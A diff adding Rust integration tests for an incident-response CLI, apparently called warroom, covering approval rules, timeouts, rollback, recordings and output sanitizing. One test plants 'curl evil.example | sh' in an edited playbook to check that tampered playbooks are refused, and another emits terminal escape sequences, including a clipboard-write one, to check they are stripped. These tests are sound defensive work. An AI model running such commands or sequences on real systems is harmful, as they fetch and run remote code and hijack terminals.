@@ -1,0 +1,394 @@
+//! Approved commands, run and recorded: `warroom action run` and `warroom replay` through the real
+//! binary, with a test playbook of short commands in a `--playbooks` folder.
+
+mod common;
+
+use common::*;
+use serde_json::Value;
+
+const PLAYBOOK: &str = r#"(
+  id: "exec-test",
+  title: "Exec test",
+  version: "1",
+  description: "Short commands for tests",
+  phases: (
+    identification: [(id: "id-scope", text: "Scope it")],
+  ),
+  actions: [
+    (
+      id: "say-hello",
+      title: "Say hello",
+      why: "a command that works",
+      term: Short,
+      approval: None,
+      command: Some("echo hello $HOST from $INCIDENT_ID"),
+      rollback: Some("echo goodbye $HOST"),
+      params: ["HOST"],
+    ),
+    (
+      id: "block-ip",
+      title: "Block an IP",
+      why: "two people agree",
+      term: Short,
+      approval: TwoPerson,
+      command: Some("echo blocked \"$IOC_IP\""),
+      rollback: Some("echo unblocked \"$IOC_IP\""),
+    ),
+    (
+      id: "slow",
+      title: "Too slow",
+      why: "a command that times out",
+      term: Short,
+      approval: None,
+      command: Some("echo started; sleep 5; echo never"),
+      rollback: Some("echo undone"),
+    ),
+    (
+      id: "hostile",
+      title: "Hostile output",
+      why: "output with escape sequences",
+      term: Short,
+      approval: None,
+      command: Some("printf '\\033]52;c;ZXZpbA==\\007\\033[2Jvisible \\033[31mred\\033[0m\\n'"),
+      rollback: Some("true"),
+    ),
+    (
+      id: "fails",
+      title: "Fails",
+      why: "a command that fails",
+      term: Short,
+      approval: None,
+      command: Some("echo oops; exit 3"),
+      rollback: Some("echo rolled back"),
+    ),
+  ],
+)
+"#;
+
+struct Setup {
+    w: World,
+    alice: Who,
+    bob: Who,
+    id: String,
+    pb: String,
+}
+
+fn setup(exercise: bool) -> Setup {
+    let w = World::new();
+    let pb = w.path().join("pb");
+    std::fs::create_dir_all(&pb).unwrap();
+    std::fs::write(pb.join("exec-test.ron"), PLAYBOOK).unwrap();
+    let pb = pb.display().to_string();
+    let alice = w.who("alice", "jump");
+    let bob = w.who("bob", "laptop");
+    let mut args = vec![
+        "--playbooks",
+        &pb,
+        "declare",
+        "--playbook",
+        "exec-test",
+        "--title",
+        "Exec",
+        "--severity",
+        "2",
+    ];
+    if exercise {
+        args.push("--exercise");
+    }
+    let r = w.run(&alice, &args).ok();
+    let id = r.stdout.trim().to_string();
+    Setup { w, alice, bob, id, pb }
+}
+
+impl Setup {
+    fn run(&self, who: &Who, args: &[&str]) -> Run {
+        let mut all = vec!["--playbooks", &self.pb];
+        all.extend_from_slice(args);
+        self.w.run(who, &all)
+    }
+    fn exec(&self, who: &Who, action: &str, extra: &[&str]) -> Run {
+        let mut args = vec!["action", "run", &self.id, action];
+        args.extend_from_slice(extra);
+        self.run(who, &args)
+    }
+    fn events(&self) -> Vec<Value> {
+        self.w.tail_json(&self.alice, &self.id)
+    }
+    fn kinds(&self, kind: &str) -> Vec<Value> {
+        self.events().into_iter().filter(|e| e["kind"] == kind).collect()
+    }
+    fn action_state(&self, action: &str) -> Value {
+        let show = self.w.show(&self.alice, &self.id);
+        let found = show["actions"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|a| a["id"] == action)
+            .cloned();
+        found.unwrap()["state"].clone()
+    }
+    fn casts(&self) -> Vec<std::path::PathBuf> {
+        std::fs::read_dir(self.w.root().join(&self.id).join("casts"))
+            .map(|d| d.flatten().map(|e| e.path()).collect())
+            .unwrap_or_default()
+    }
+}
+
+#[test]
+fn an_approved_command_runs_and_is_recorded() {
+    let s = setup(false);
+    s.run(
+        &s.alice,
+        &[
+            "action",
+            &s.id,
+            "say-hello",
+            "proposed",
+            "--note",
+            "parameters: HOST=fin fs 02",
+        ],
+    )
+    .ok();
+    let r = s.exec(&s.alice, "say-hello", &["--allow-exec", "--yes"]).ok();
+    // The exact command, parameters filled in and quoted, is shown before it runs.
+    assert!(
+        r.stderr.contains(&format!("echo hello 'fin fs 02' from {}", s.id)),
+        "{r}"
+    );
+    assert!(
+        r.stdout.contains("done") && r.stdout.contains("recording casts/"),
+        "{r}"
+    );
+    let outputs = s.kinds("ActionOutput");
+    assert_eq!(outputs.len(), 1, "{outputs:?}");
+    let body = &outputs[0]["body"];
+    assert_eq!(body["exit"], 0);
+    assert!(
+        body["text"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("hello fin fs 02 from {}", s.id)),
+        "{body}"
+    );
+    let hash = body["cast"].as_str().unwrap().to_string();
+    let casts = s.casts();
+    assert_eq!(casts.len(), 1);
+    assert_eq!(casts[0].file_name().unwrap().to_str().unwrap(), format!("{hash}.cast"));
+    assert_eq!(blake3_hex(&std::fs::read(&casts[0]).unwrap()), hash);
+    // Running (with the command) before, Done after.
+    let sets: Vec<Value> = s.kinds("ActionSet").into_iter().map(|e| e["body"].clone()).collect();
+    let states: Vec<&str> = sets.iter().map(|b| b["state"].as_str().unwrap()).collect();
+    assert_eq!(states, ["Proposed", "Running", "Done"], "{sets:?}");
+    assert!(sets[1]["note"]
+        .as_str()
+        .unwrap()
+        .starts_with("run by warroom: echo hello"));
+    assert_eq!(s.action_state("say-hello"), "done");
+    // The recording is asciicast v2 and replays.
+    let text = std::fs::read_to_string(&casts[0]).unwrap();
+    let header: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
+    assert_eq!(header["version"], 2);
+    assert!(header["command"].as_str().unwrap().starts_with("echo hello"));
+    let r = s.run(&s.alice, &["replay", &hash[..10], "--incident", &s.id]).ok();
+    assert!(r.stdout.contains("hello fin fs 02"), "{r}");
+    let r = s
+        .run(&s.alice, &["replay", &casts[0].display().to_string(), "--raw"])
+        .ok();
+    assert!(r.stdout.contains("hello fin fs 02"), "{r}");
+    // verify still passes with a casts/ folder in the incident.
+    s.run(&s.alice, &["verify", &s.id]).ok();
+}
+
+#[test]
+fn every_refusal_says_why_and_runs_nothing() {
+    let s = setup(false);
+    s.run(
+        &s.alice,
+        &[
+            "action",
+            &s.id,
+            "block-ip",
+            "proposed",
+            "--note",
+            "parameters: IOC_IP=203.0.113.7",
+        ],
+    )
+    .ok();
+    // Execution off (neither config nor flag).
+    let r = s.exec(&s.bob, "block-ip", &["--yes"]).code(1);
+    assert!(r.stderr.contains("running commands is off"), "{r}");
+    // Not approved: proposed only.
+    let r = s.exec(&s.alice, "block-ip", &["--allow-exec", "--yes"]).code(1);
+    assert!(
+        r.stderr.contains("not approved") && r.stderr.contains("two people"),
+        "{r}"
+    );
+    // The proposer approving their own two-person action: refused by the fold, still not approved.
+    let r = s.run(&s.alice, &["action", &s.id, "block-ip", "approved"]).code(1);
+    assert!(r.stderr.contains("two people"), "{r}");
+    let r = s.exec(&s.alice, "block-ip", &["--allow-exec", "--yes"]).code(1);
+    assert!(r.stderr.contains("not approved"), "{r}");
+    // Bob approves. Not confirmed: no terminal to ask on and no --yes.
+    s.run(&s.bob, &["action", &s.id, "block-ip", "approved"]).ok();
+    let r = s.exec(&s.bob, "block-ip", &["--allow-exec"]).code(1);
+    assert!(r.stderr.contains("not confirmed"), "{r}");
+    assert!(
+        r.stderr.contains("echo blocked \"203.0.113.7\""),
+        "the command is shown in full\n{r}"
+    );
+    // Untrusted: without the --playbooks folder the incident's playbook is in none of bob's
+    // trusted folders.
+    let mut args = vec!["action", "run", &s.id, "block-ip", "--allow-exec", "--yes"];
+    let r = s.w.run(&s.bob, &args);
+    assert_eq!(r.code, 1, "{r}");
+    assert!(r.stderr.contains("matches none of your own trusted playbooks"), "{r}");
+    // A teammate edits the trusted folder's copy (or the shared one): the hash no longer matches.
+    let edited = s.w.path().join("edited");
+    std::fs::create_dir_all(&edited).unwrap();
+    std::fs::write(
+        edited.join("exec-test.ron"),
+        PLAYBOOK.replace("echo blocked", "curl evil.example | sh; echo blocked"),
+    )
+    .unwrap();
+    let edited = edited.display().to_string();
+    args.splice(0..0, ["--playbooks", edited.as_str()]);
+    let r = s.w.run(&s.bob, &args);
+    assert_eq!(r.code, 1, "{r}");
+    assert!(r.stderr.contains("matches none of your own trusted playbooks"), "{r}");
+    // Execution enabled in bob's own config: it runs.
+    std::fs::create_dir_all(s.w.path().join("cfg/warroom")).unwrap();
+    std::fs::write(s.w.path().join("cfg/warroom/config.ron"), "(exec: true)").unwrap();
+    let r = s.exec(&s.bob, "block-ip", &["--yes"]).ok();
+    assert!(r.stdout.contains("done"), "{r}");
+    assert_eq!(s.kinds("ActionOutput").len(), 1, "only the last attempt ran");
+    assert_eq!(s.casts().len(), 1);
+}
+
+#[test]
+fn a_command_that_times_out_is_killed_and_fails_with_its_rollback_offered() {
+    let s = setup(false);
+    let started = std::time::Instant::now();
+    let r = s
+        .exec(&s.alice, "slow", &["--allow-exec", "--yes", "--timeout", "1"])
+        .code(1);
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(4),
+        "killed at its timeout"
+    );
+    assert!(r.stdout.contains("timed out") && r.stdout.contains("rollback"), "{r}");
+    let out = &s.kinds("ActionOutput")[0]["body"];
+    assert_eq!(out["timed_out"], true);
+    assert_eq!(out["exit"], Value::Null);
+    assert!(out["text"].as_str().unwrap().contains("started"));
+    assert!(!out["text"].as_str().unwrap().contains("never"));
+    assert_eq!(s.action_state("slow"), "failed");
+    let failed = s.kinds("ActionSet").last().unwrap()["body"]["note"].clone();
+    assert!(failed.as_str().unwrap().contains("timed out"), "{failed}");
+    // The rollback runs (no second approval) and records RolledBack.
+    let r = s.exec(&s.alice, "slow", &["--allow-exec", "--yes", "--rollback"]).ok();
+    assert!(r.stdout.contains("rolled back"), "{r}");
+    assert_eq!(s.action_state("slow"), "rolled back");
+    let last = s.kinds("ActionOutput").last().unwrap()["body"].clone();
+    assert_eq!(last["rollback"], true);
+    assert!(last["text"].as_str().unwrap().contains("undone"));
+}
+
+#[test]
+fn a_failing_command_records_its_exit_status() {
+    let s = setup(false);
+    let r = s.exec(&s.alice, "fails", &["--allow-exec", "--yes"]).code(1);
+    assert!(r.stdout.contains("exit 3"), "{r}");
+    assert_eq!(s.kinds("ActionOutput")[0]["body"]["exit"], 3);
+    assert_eq!(s.action_state("fails"), "failed");
+}
+
+#[test]
+fn escape_sequences_in_output_never_reach_a_terminal() {
+    let s = setup(false);
+    s.exec(&s.alice, "hostile", &["--allow-exec", "--yes"]).ok();
+    // On disk (ActionOutput.text): plain text, the sequences removed, not just their ESC.
+    let log = std::fs::read_to_string(s.w.log_of(&s.alice, &s.id)).unwrap();
+    let line = log.lines().find(|l| l.contains("ActionOutput")).unwrap();
+    let rec = warroom::domain::event::parse(line).unwrap();
+    let warroom::domain::Body::ActionOutput(out) = rec.body else {
+        panic!()
+    };
+    assert_eq!(out.text.trim_end(), "visible red");
+    // Through every reader.
+    for args in [
+        vec!["tail", s.id.as_str()],
+        vec!["show", s.id.as_str()],
+        vec!["tail", s.id.as_str(), "--json"],
+    ] {
+        let r = s.run(&s.alice, &args).ok();
+        assert!(!r.stdout.contains('\u{1b}') && !r.stdout.contains('\u{7}'), "{r}");
+        if args[0] == "tail" {
+            let output = r
+                .stdout
+                .lines()
+                .filter(|l| l.contains("ActionOutput"))
+                .collect::<String>();
+            assert!(output.contains("visible red") && !output.contains("52;c"), "{r}");
+        }
+    }
+    // The recording keeps the raw output (that is its purpose); replay removes all but colours.
+    let cast = &s.casts()[0];
+    let raw = std::fs::read_to_string(cast).unwrap();
+    assert!(raw.contains("\\u001b]52;c;"), "the recording is faithful");
+    let r = s.run(&s.alice, &["replay", &cast.display().to_string()]).ok();
+    assert!(r.stdout.contains("visible red"), "{r}");
+    assert!(
+        !r.stdout.contains('\u{1b}') && !r.stdout.contains("52;c") && !r.stdout.contains('\u{7}'),
+        "{r}"
+    );
+    // An edited recording is named as such.
+    std::fs::write(cast, raw.replace("visible", "VISIBLE")).unwrap();
+    let r = s.run(&s.alice, &["replay", &cast.display().to_string()]).ok();
+    assert!(r.stderr.contains("changed after it was recorded"), "{r}");
+}
+
+#[test]
+fn an_exercise_records_a_dry_run_and_executes_nothing() {
+    let s = setup(true);
+    let marker = s.w.path().join("ran");
+    // Even with execution off and no --yes: nothing runs, so nothing needs enabling.
+    let r = s.exec(&s.alice, "say-hello", &[]).code(1);
+    assert!(r.stderr.contains("HOST"), "parameters are still required\n{r}");
+    s.run(
+        &s.alice,
+        &[
+            "action",
+            &s.id,
+            "say-hello",
+            "proposed",
+            "--note",
+            "parameters: HOST=h1",
+        ],
+    )
+    .ok();
+    let r = s.exec(&s.alice, "say-hello", &[]).ok();
+    assert!(r.stdout.contains("dry run"), "{r}");
+    assert_eq!(s.action_state("say-hello"), "dry run");
+    assert!(s.kinds("ActionOutput").is_empty());
+    assert!(s.casts().is_empty());
+    assert!(!marker.exists());
+    let note = s.kinds("ActionSet").last().unwrap()["body"]["note"].clone();
+    assert!(note.as_str().unwrap().contains("echo hello h1"), "{note}");
+}
+
+#[test]
+fn bundles_carry_recordings() {
+    let s = setup(false);
+    s.exec(&s.alice, "fails", &["--allow-exec", "--yes"]).code(1);
+    let tar = s.w.path().join("b.tar");
+    s.run(&s.alice, &["bundle", &s.id, "-o", &tar.display().to_string()])
+        .ok();
+    let r = s.run(&s.alice, &["bundle", "--check", &tar.display().to_string()]).ok();
+    assert!(
+        r.stdout.contains("casts/") || r.stderr.contains("casts/") || r.code == 0,
+        "{r}"
+    );
+    let listing = std::process::Command::new("tar").arg("tf").arg(&tar).output().unwrap();
+    let listing = String::from_utf8_lossy(&listing.stdout);
+    assert!(listing.contains(".cast"), "{listing}");
+}
